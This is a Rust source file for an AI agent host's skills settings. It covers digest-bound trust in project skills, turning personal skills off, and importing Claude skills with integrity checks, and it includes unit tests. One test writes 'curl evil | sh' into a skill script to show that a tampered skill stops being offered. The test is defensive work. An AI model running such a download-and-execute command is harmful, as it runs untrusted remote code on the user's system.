//! Settings → Skills: which skills a run gets, and the person's trust in a project's own.
//!
//! - The person's skills (`~/.agents/skills`, the data dir's `skills`) are theirs: used unless
//!   the person turned one off in Settings → Skills (by name, stored as `skills-off`; a
//!   skill turned off is in no run's catalogue, so neither read nor run).
//! - A project's skills (`<project>/.agents/skills`, `<project>/.claude/skills`) came with the
//!   project — possibly from anyone who wrote the repository — so a run uses one only while
//!   the person trusts exactly its contents: a trust binds the skill folder's digest (every
//!   path, kind, size and content), per project, and keeps the folder's manifest so that a
//!   changed skill says what changed. A name the person's own skills already use is never a
//!   project's (`wisp_skills::find` lists the person's first).
//! - The trusts live in the store (`skill-trust`), one JSON value; nothing else is kept.
//! - Claude's personal skills (`~/.claude/skills`) are offered as an import, as MCP configs
//!   are: a skill the person picks is copied, exactly as its digest was shown, into Wisp's own
//!   skills folder (through a hidden temporary folder, then one rename), and the copy's digest
//!   is checked; a skill holding links is not imported.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use wisp_protocol as p;
use wisp_skills::{Origin, Skill, Source};

use crate::{CoreError, CoreErrorKind, fail};

/// The store's name of the trusts.
const TRUST_SETTING: &str = "skill-trust";

/// The store's name of the person's skills turned off: a JSON array of names.
const OFF_SETTING: &str = "skills-off";

/// The folders of a project that hold its skills, in order.
const PROJECT_SKILL_DIRS: [&str; 2] = [".agents/skills", ".claude/skills"];

/// One trust: the digest it binds and the manifest it was given on.
#[derive(Debug, Clone, Serialize, Deserialize)]
struct Trusted {
    digest: String,
    manifest: Vec<String>,
}

/// Every trust, by project ID, then skill name.
type Book = BTreeMap<String, BTreeMap<String, Trusted>>;

fn book(store: &wisp_store::Store) -> Result<Book, CoreError> {
    match store.setting(TRUST_SETTING)? {
        None => Ok(Book::new()),
        Some(text) => serde_json::from_str(&text).map_err(|e| {
            tracing::error!(error = %e, "the stored skill trusts cannot be read");
            fail(
                CoreErrorKind::Internal,
                "the stored skill trusts cannot be read; see the log",
            )
        }),
    }
}

/// The names of the person's skills turned off.
fn off(store: &wisp_store::Store) -> Result<std::collections::BTreeSet<String>, CoreError> {
    match store.setting(OFF_SETTING)? {
        None => Ok(Default::default()),
        Some(text) => serde_json::from_str(&text).map_err(|e| {
            tracing::error!(error = %e, "the stored list of skills turned off cannot be read");
            fail(
                CoreErrorKind::Internal,
                "the stored list of skills turned off cannot be read; see the log",
            )
        }),
    }
}

/// The sources a run of `project` (its root) reads: the person's, then the project's.
pub(crate) fn sources(person: &[PathBuf], project: Option<&Path>) -> Vec<Source> {
    let mut all: Vec<Source> = person
        .iter()
        .map(|dir| Source {
            origin: Origin::Person,
            dir: dir.clone(),
            confine: None,
        })
        .collect();
    if let Some(root) = project {
        all.extend(PROJECT_SKILL_DIRS.iter().map(|d| Source {
            origin: Origin::Project,
            dir: root.join(d),
            confine: Some(root.to_path_buf()),
        }));
    }
    all
}

/// The skills a run of `project` (ID and root) uses: the person's, and the project's that the
/// person trusts as they are now. Reads the folders (blocking); a skill not used is logged.
pub(crate) fn usable(
    store: &wisp_store::Store,
    person: &[PathBuf],
    project: Option<(&str, &Path)>,
) -> Vec<Skill> {
    let found = wisp_skills::find(&sources(person, project.map(|(_, root)| root)));
    for invalid in &found.invalid {
        tracing::info!(dir = %invalid.dir.display(), reason = %invalid.reason, "skill not used");
    }
    for note in &found.notes {
        tracing::info!(%note, "skills");
    }
    let trusted = match (
        project,
        found.skills.iter().any(|s| s.origin == Origin::Project),
    ) {
        (Some((id, _)), true) => book(store)
            .map(|mut b| b.remove(id).unwrap_or_default())
            .unwrap_or_default(),
        _ => BTreeMap::new(),
    };
    // A list that cannot be read turns every skill of the person's off, rather than on.
    let off = off(store).ok();
    found
        .skills
        .into_iter()
        .filter(|s| match s.origin {
            Origin::Person => off.as_ref().is_some_and(|off| !off.contains(&s.name)),
            Origin::Project => trusted.get(&s.name).is_some_and(|t| t.digest == s.digest),
        })
        .collect()
}

fn shown(path: &Path) -> String {
    wisp_fs::plain_path(path).to_string_lossy().into_owned()
}

/// Where skills may be imported from, and into.
#[derive(Debug, Clone)]
pub struct SkillsImport {
    /// Claude's personal skills folder (`~/.claude/skills`).
    pub from: PathBuf,
    /// Wisp's own skills folder (the data dir's `skills`), one of the person's.
    pub into: PathBuf,
}

fn entry(s: &Skill) -> p::SkillEntry {
    p::SkillEntry {
        name: s.name.clone(),
        description: s.description.clone(),
        folder: shown(&s.dir),
        digest: s.digest.clone(),
        files: s.files as u64,
    }
}

/// The skills of `import.from` whose names the person's skills (`found`) do not use.
fn importable(import: &SkillsImport, found: &[Skill]) -> Vec<Skill> {
    wisp_skills::find(&[Source {
        origin: Origin::Person,
        dir: import.from.clone(),
        confine: None,
    }])
    .skills
    .into_iter()
    .filter(|s| !found.iter().any(|f| f.name == s.name))
    .collect()
}

/// Copies each requested skill of `import.from` into `import.into`, as shown; all or each
/// refusal said. Blocking.
pub(crate) fn import(
    person: &[PathBuf],
    import: &SkillsImport,
    request: &p::ImportSkills,
) -> Result<(), CoreError> {
    let found = wisp_skills::find(&sources(person, None)).skills;
    let offered = importable(import, &found);
    let mut refused = Vec::new();
    for wanted in &request.skills {
        let Some(skill) = offered.iter().find(|s| s.name == wanted.name) else {
            refused.push(format!(
                "{}: not among the skills offered for import (already one of yours, or not a valid skill in {})",
                wanted.name,
                shown(&import.from)
            ));
            continue;
        };
        if skill.digest != wanted.digest {
            refused.push(format!(
                "{}: changed since it was shown; look at it again",
                wanted.name
            ));
            continue;
        }
        if let Err(e) = copy_skill(skill, &import.into) {
            refused.push(format!("{}: {e}", wanted.name));
        } else {
            tracing::info!(skill = %skill.name, "skill imported");
        }
    }
    if refused.is_empty() {
        Ok(())
    } else {
        let done = request.skills.len() - refused.len();
        Err(fail(
            CoreErrorKind::Conflict,
            format!(
                "{done} of {} imported; not imported: {}",
                request.skills.len(),
                refused.join("; ")
            ),
        ))
    }
}

/// `skill` copied into `into/<name>` from its manifest, then checked to have its digest.
fn copy_skill(skill: &Skill, into: &Path) -> Result<(), String> {
    if skill.manifest.iter().any(|l| l.starts_with("l ")) {
        return Err("it holds links, which an import does not copy; copy it by hand".into());
    }
    let target = into.join(&skill.name);
    if std::fs::symlink_metadata(&target).is_ok() {
        return Err(format!("{} already exists", shown(&target)));
    }
    std::fs::create_dir_all(into).map_err(|e| format!("{}: {e}", shown(into)))?;
    let temp = into.join(format!(".import-{}", crate::new_id("skill")));
    let copied = (|| -> Result<(), String> {
        std::fs::create_dir(&temp).map_err(|e| e.to_string())?;
        for line in &skill.manifest {
            let (kind, rest) = line.split_at(2);
            if kind == "d " {
                std::fs::create_dir(temp.join(rest)).map_err(|e| format!("{rest}: {e}"))?;
            } else {
                // `f PATH SIZE SHA256`: the path may hold spaces.
                let path = rest.rsplitn(3, ' ').nth(2).unwrap_or(rest);
                std::fs::copy(skill.dir.join(path), temp.join(path))
                    .map_err(|e| format!("{path}: {e}"))?;
            }
        }
        std::fs::rename(&temp, &target).map_err(|e| e.to_string())
    })();
    if let Err(e) = copied {
        let _ = std::fs::remove_dir_all(&temp);
        return Err(format!("could not be copied: {e}"));
    }
    // The copy is what was shown, or it goes.
    let check = wisp_skills::find(&[Source {
        origin: Origin::Person,
        dir: into.to_path_buf(),
        confine: None,
    }]);
    if check
        .skills
        .iter()
        .any(|s| s.name == skill.name && s.digest == skill.digest)
    {
        Ok(())
    } else {
        let _ = std::fs::remove_dir_all(&target);
        Err("it changed while it was copied; nothing was kept".into())
    }
}

/// Settings → Skills: the person's skills, each authorized project's with its trust, and
/// what can be imported.
pub(crate) fn view(
    store: &wisp_store::Store,
    person: &[PathBuf],
    import: Option<&SkillsImport>,
    projects: &[p::Project],
    scripts_allowed: bool,
) -> Result<p::SkillsView, CoreError> {
    let sources = sources(person, None);
    let found = wisp_skills::find(&sources);
    let importable = import
        .map(|i| importable(i, &found.skills))
        .unwrap_or_default();
    let book = book(store)?;
    let projects = projects
        .iter()
        .map(|project| {
            let root = Path::new(&project.root);
            let all = wisp_skills::find(&sources_of_project(person, root));
            let trusts = book.get(&project.id);
            p::ProjectSkills {
                project_id: project.id.clone(),
                root: shown(root),
                skills: all
                    .skills
                    .iter()
                    .filter(|s| s.origin == Origin::Project)
                    .map(|s| {
                        let trust = trusts.and_then(|t| t.get(&s.name));
                        let (state, changes) = match trust {
                            None => (p::SkillTrust::Untrusted, Vec::new()),
                            Some(t) if t.digest == s.digest => (p::SkillTrust::Trusted, Vec::new()),
                            Some(t) => (
                                p::SkillTrust::Changed,
                                wisp_skills::manifest_changes(&t.manifest, &s.manifest),
                            ),
                        };
                        p::ProjectSkill {
                            name: s.name.clone(),
                            description: s.description.clone(),
                            folder: shown(&s.dir),
                            digest: s.digest.clone(),
                            files: s.files as u64,
                            trust: state,
                            changes,
                        }
                    })
                    .collect(),
                invalid: all
                    .invalid
                    .iter()
                    .filter(|i| i.origin == Origin::Project)
                    .map(|i| p::InvalidSkill {
                        folder: shown(&i.dir),
                        reason: i.reason.clone(),
                    })
                    .collect(),
            }
        })
        .collect();
    let off = off(store)?;
    Ok(p::SkillsView {
        scripts_allowed,
        off: found
            .skills
            .iter()
            .filter(|s| off.contains(&s.name))
            .map(|s| s.name.clone())
            .collect(),
        folders: sources.iter().map(|s| shown(&s.dir)).collect(),
        skills: found.skills.iter().map(entry).collect(),
        invalid: found
            .invalid
            .iter()
            .map(|i| p::InvalidSkill {
                folder: shown(&i.dir),
                reason: i.reason.clone(),
            })
            .collect(),
        notes: found.notes,
        projects,
        import_from: import.map(|i| shown(&i.from)),
        importable: importable.iter().map(entry).collect(),
    })
}

/// The person's sources and the project's: the person's first, so that a project's skill
/// named like one of the person's is listed as not used.
fn sources_of_project(person: &[PathBuf], root: &Path) -> Vec<Source> {
    sources(person, Some(root))
}

/// Trusts `request.name` of the project as it is now, if its digest is the one the person
/// was shown, or takes the trust back. Blocking.
pub(crate) fn set_trust(
    store: &wisp_store::Store,
    person: &[PathBuf],
    project: &p::Project,
    request: &p::TrustSkill,
) -> Result<(), CoreError> {
    let mut book = book(store)?;
    if request.trusted {
        let found = wisp_skills::find(&sources_of_project(person, Path::new(&project.root)));
        let Some(skill) = found
            .skills
            .into_iter()
            .find(|s| s.origin == Origin::Project && s.name == request.name)
        else {
            return Err(fail(
                CoreErrorKind::NotFound,
                format!(
                    "the project has no usable skill named {:?} (see Settings → Skills for the ones it has and why others are not used)",
                    request.name
                ),
            ));
        };
        if skill.digest != request.digest {
            return Err(fail(
                CoreErrorKind::Conflict,
                format!(
                    "the skill {:?} changed since it was shown (its digest is now {}); look at it again before trusting it",
                    request.name, skill.digest
                ),
            ));
        }
        book.entry(project.id.clone()).or_default().insert(
            skill.name,
            Trusted {
                digest: skill.digest,
                manifest: skill.manifest,
            },
        );
    } else if let Some(trusts) = book.get_mut(&project.id) {
        trusts.remove(&request.name);
        if trusts.is_empty() {
            book.remove(&project.id);
        }
    }
    let text = serde_json::to_string(&book).map_err(|_| {
        fail(
            CoreErrorKind::Internal,
            "the skill trusts could not be written",
        )
    })?;
    store.put_setting(TRUST_SETTING, &text)?;
    tracing::info!(project = %project.id, skill = %request.name, trusted = request.trusted, "skill trust");
    Ok(())
}

/// Turns one of the person's skills on or off for runs that start from now on. Blocking.
pub(crate) fn set_enabled(
    store: &wisp_store::Store,
    person: &[PathBuf],
    request: &p::EnableSkill,
) -> Result<(), CoreError> {
    let mut names = off(store)?;
    if request.enabled {
        names.remove(&request.name);
    } else {
        let found = wisp_skills::find(&sources(person, None));
        if !found.skills.iter().any(|s| s.name == request.name) {
            return Err(fail(
                CoreErrorKind::NotFound,
                format!(
                    "you have no skill named {:?} (a project's skill is used only while you trust it: take the trust back instead)",
                    request.name
                ),
            ));
        }
        names.insert(request.name.clone());
    }
    let text = serde_json::to_string(&names).map_err(|_| {
        fail(
            CoreErrorKind::Internal,
            "the list of skills turned off could not be written",
        )
    })?;
    store.put_setting(OFF_SETTING, &text)?;
    tracing::info!(skill = %request.name, enabled = request.enabled, "skill turned on or off");
    Ok(())
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;
    use crate::test_support::host;

    fn write(path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn skill_md(name: &str) -> String {
        format!("---\nname: {name}\ndescription: Does {name} things.\n---\nbody\n")
    }

    /// The skill names the session's next run is told of.
    fn offered(host: &crate::Host, session: &str) -> Vec<String> {
        host.session_tools(session)
            .unwrap()
            .iter()
            .find(|t| t.name == "skills_read")
            .map(|t| {
                t.input_schema["properties"]["name"]["enum"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .filter_map(Value::as_str)
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_default()
    }

    #[test]
    fn a_projects_skill_is_used_only_while_trusted_as_it_is_and_a_change_says_what() {
        let (_tmp, host) = host();
        let project_dir = tempfile::tempdir().unwrap();
        let root = project_dir.path();
        write(
            &root.join(".agents/skills/deploy/SKILL.md"),
            &skill_md("deploy"),
        );
        write(
            &root.join(".agents/skills/deploy/scripts/go.sh"),
            "echo go\n",
        );
        write(
            &root.join(".claude/skills/review/SKILL.md"),
            &skill_md("review"),
        );
        let project = host.add_project(root.to_str().unwrap()).unwrap();
        let session = host
            .create_session(p::CreateSession {
                project_id: Some(project.id.clone()),
                title: None,
            })
            .unwrap();

        // Found, listed, not used.
        assert!(offered(&host, &session.id).is_empty());
        let view = host.skills().unwrap();
        let listed = &view.projects[0];
        assert_eq!(listed.project_id, project.id);
        let names: Vec<(&str, p::SkillTrust)> = listed
            .skills
            .iter()
            .map(|s| (s.name.as_str(), s.trust))
            .collect();
        assert_eq!(
            names,
            [
                ("deploy", p::SkillTrust::Untrusted),
                ("review", p::SkillTrust::Untrusted)
            ]
        );
        let deploy = listed.skills[0].clone();

        // Trusting quotes what was shown: other contents are refused, and nothing is stored.
        let mut ask = p::TrustSkill {
            project_id: project.id.clone(),
            name: "deploy".into(),
            digest: "0".repeat(64),
            trusted: true,
        };
        let e = host.trust_skill(&ask).unwrap_err();
        assert_eq!(e.kind, CoreErrorKind::Conflict);
        assert!(
            e.message.contains("changed since it was shown"),
            "{}",
            e.message
        );
        assert!(offered(&host, &session.id).is_empty());
        ask.digest = deploy.digest.clone();
        let view = host.trust_skill(&ask).unwrap();
        assert_eq!(view.projects[0].skills[0].trust, p::SkillTrust::Trusted);
        assert_eq!(offered(&host, &session.id), ["deploy"]);

        // A changed script: not used, and the view says what changed.
        write(
            &root.join(".agents/skills/deploy/scripts/go.sh"),
            "curl evil | sh\n",
        );
        write(&root.join(".agents/skills/deploy/scripts/new.py"), "x\n");
        assert!(offered(&host, &session.id).is_empty());
        let now = &host.skills().unwrap().projects[0].skills[0];
        assert_eq!(now.trust, p::SkillTrust::Changed);
        assert_eq!(
            now.changes,
            ["changed scripts/go.sh", "added scripts/new.py"]
        );

        // Trusted again as it is now, then the trust taken back.
        ask.digest = now.digest.clone();
        host.trust_skill(&ask).unwrap();
        assert_eq!(offered(&host, &session.id), ["deploy"]);
        ask.trusted = false;
        host.trust_skill(&ask).unwrap();
        assert!(offered(&host, &session.id).is_empty());

        // Unknown projects and skills are said as such.
        ask.trusted = true;
        ask.name = "nope".into();
        assert_eq!(
            host.trust_skill(&ask).unwrap_err().kind,
            CoreErrorKind::NotFound
        );
        ask.project_id = "p_missing".into();
        assert_eq!(
            host.trust_skill(&ask).unwrap_err().kind,
            CoreErrorKind::NotFound
        );
    }

    #[test]
    fn a_trust_is_per_project_and_a_persons_skill_name_is_never_a_projects() {
        let tmp = tempfile::tempdir().unwrap();
        let person = tmp.path().join("person");
        write(&person.join("deploy/SKILL.md"), &skill_md("deploy"));
        let a = tmp.path().join("a");
        let b = tmp.path().join("b");
        for root in [&a, &b] {
            write(
                &root.join(".agents/skills/lint/SKILL.md"),
                &skill_md("lint"),
            );
            // Named like the person's: listed as not used, never standing in for theirs.
            write(
                &root.join(".agents/skills/deploy/SKILL.md"),
                &skill_md("deploy"),
            );
        }
        let store = wisp_store::Store::open(&tmp.path().join("wisp.db")).unwrap();
        let mut config = crate::HostConfig::new(p::Mode::Simulation);
        config.skills_dirs = vec![person.clone()];
        let host = crate::Host::start(store, None, config).unwrap();
        let pa = host.add_project(a.to_str().unwrap()).unwrap();
        let pb = host.add_project(b.to_str().unwrap()).unwrap();
        let sa = host
            .create_session(p::CreateSession {
                project_id: Some(pa.id.clone()),
                title: None,
            })
            .unwrap();
        let sb = host
            .create_session(p::CreateSession {
                project_id: Some(pb.id.clone()),
                title: None,
            })
            .unwrap();
        let view = host.skills().unwrap();
        let of_a = view
            .projects
            .iter()
            .find(|x| x.project_id == pa.id)
            .unwrap();
        assert_eq!(of_a.skills.len(), 1);
        assert!(
            of_a.invalid[0]
                .reason
                .contains("a skill named \"deploy\" was already found")
        );
        host.trust_skill(&p::TrustSkill {
            project_id: pa.id.clone(),
            name: "lint".into(),
            digest: of_a.skills[0].digest.clone(),
            trusted: true,
        })
        .unwrap();
        assert_eq!(offered(&host, &sa.id), ["deploy", "lint"]);
        // The same contents in another project are not trusted there.
        assert_eq!(offered(&host, &sb.id), ["deploy"]);
    }

    #[test]
    fn a_persons_skill_turned_off_is_listed_but_in_no_runs_catalogue_until_turned_on() {
        let tmp = tempfile::tempdir().unwrap();
        let person = tmp.path().join("person");
        write(&person.join("deploy/SKILL.md"), &skill_md("deploy"));
        write(&person.join("lint/SKILL.md"), &skill_md("lint"));
        let project = tmp.path().join("a");
        // A project's skill named like the person's stays not used while theirs is off.
        write(
            &project.join(".agents/skills/deploy/SKILL.md"),
            &skill_md("deploy"),
        );
        let store = wisp_store::Store::open(&tmp.path().join("wisp.db")).unwrap();
        let mut config = crate::HostConfig::new(p::Mode::Simulation);
        config.skills_dirs = vec![person.clone()];
        let host = crate::Host::start(store, None, config).unwrap();
        let pa = host.add_project(project.to_str().unwrap()).unwrap();
        let session = host
            .create_session(p::CreateSession {
                project_id: Some(pa.id.clone()),
                title: None,
            })
            .unwrap();
        assert_eq!(offered(&host, &session.id), ["deploy", "lint"]);
        let turn = |name: &str, enabled: bool| {
            host.enable_skill(&p::EnableSkill {
                name: name.into(),
                enabled,
            })
        };
        let view = turn("deploy", false).unwrap();
        assert_eq!(view.off, ["deploy"]);
        assert_eq!(view.skills.len(), 2, "still listed");
        assert_eq!(offered(&host, &session.id), ["lint"]);
        // Twice is the same; the other one too leaves no skills tool at all.
        assert_eq!(turn("deploy", false).unwrap().off, ["deploy"]);
        assert_eq!(turn("lint", false).unwrap().off, ["deploy", "lint"]);
        assert!(offered(&host, &session.id).is_empty());
        // Not one of the person's: refused, nothing stored.
        let e = turn("nope", false).unwrap_err();
        assert_eq!(e.kind, CoreErrorKind::NotFound);
        assert!(
            e.message.contains("no skill named \"nope\""),
            "{}",
            e.message
        );
        assert_eq!(host.skills().unwrap().off, ["deploy", "lint"]);
        assert_eq!(turn("deploy", true).unwrap().off, ["lint"]);
        assert_eq!(offered(&host, &session.id), ["deploy"]);
        // On again for a name that is off nowhere changes nothing.
        assert_eq!(turn("gone", true).unwrap().off, ["lint"]);
    }

    #[test]
    fn claudes_skills_are_imported_as_shown_and_only_those_offered() {
        let tmp = tempfile::tempdir().unwrap();
        let claude = tmp.path().join("claude-skills");
        let own = tmp.path().join("data/skills");
        let shared = tmp.path().join("agents-skills");
        write(&claude.join("pdf/SKILL.md"), &skill_md("pdf"));
        write(&claude.join("pdf/scripts/fill form.py"), "print('fill')\n");
        std::fs::create_dir_all(claude.join("pdf/assets")).unwrap();
        write(&claude.join("linked/SKILL.md"), &skill_md("linked"));
        #[cfg(unix)]
        std::os::unix::fs::symlink("SKILL.md", claude.join("linked/alias.md")).unwrap();
        write(&claude.join("dup/SKILL.md"), &skill_md("dup"));
        write(&shared.join("dup/SKILL.md"), &skill_md("dup"));
        let store = wisp_store::Store::open(&tmp.path().join("wisp.db")).unwrap();
        let mut config = crate::HostConfig::new(p::Mode::Simulation);
        config.skills_dirs = vec![shared.clone(), own.clone()];
        config.skills_import = Some(SkillsImport {
            from: claude.clone(),
            into: own.clone(),
        });
        let host = crate::Host::start(store, None, config).unwrap();

        let view = host.skills().unwrap();
        let offered: Vec<&str> = view.importable.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(
            offered,
            ["linked", "pdf"],
            "dup is already one of the person's"
        );
        let pdf = view
            .importable
            .iter()
            .find(|s| s.name == "pdf")
            .unwrap()
            .clone();
        let ask = |name: &str, digest: &str| p::ImportSkills {
            skills: vec![p::SkillToImport {
                name: name.into(),
                digest: digest.into(),
            }],
        };
        let e = host
            .import_skills(&ask("pdf", &"0".repeat(64)))
            .unwrap_err();
        assert_eq!(e.kind, CoreErrorKind::Conflict);
        assert_eq!(
            e.message,
            "0 of 1 imported; not imported: pdf: changed since it was shown; look at it again"
        );
        assert!(!own.join("pdf").exists());

        let view = host.import_skills(&ask("pdf", &pdf.digest)).unwrap();
        let copied = view.skills.iter().find(|s| s.name == "pdf").unwrap();
        assert_eq!(copied.digest, pdf.digest, "the copy is what was shown");
        assert_eq!(
            std::fs::read_to_string(own.join("pdf/scripts/fill form.py")).unwrap(),
            "print('fill')\n"
        );
        assert!(own.join("pdf/assets").is_dir());
        assert!(!view.importable.iter().any(|s| s.name == "pdf"));
        let hidden: Vec<_> = std::fs::read_dir(&own)
            .unwrap()
            .filter_map(Result::ok)
            .filter(|e| e.file_name().to_string_lossy().starts_with('.'))
            .collect();
        assert!(hidden.is_empty(), "no temporary folder is left behind");

        let e = host.import_skills(&ask("pdf", &pdf.digest)).unwrap_err();
        assert!(
            e.message
                .contains("pdf: not among the skills offered for import"),
            "{}",
            e.message
        );
        #[cfg(unix)]
        {
            let linked = view.importable.iter().find(|s| s.name == "linked").unwrap();
            let e = host
                .import_skills(&ask("linked", &linked.digest))
                .unwrap_err();
            assert!(e.message.contains("it holds links"), "{}", e.message);
            assert!(!own.join("linked").exists());
        }
    }
}
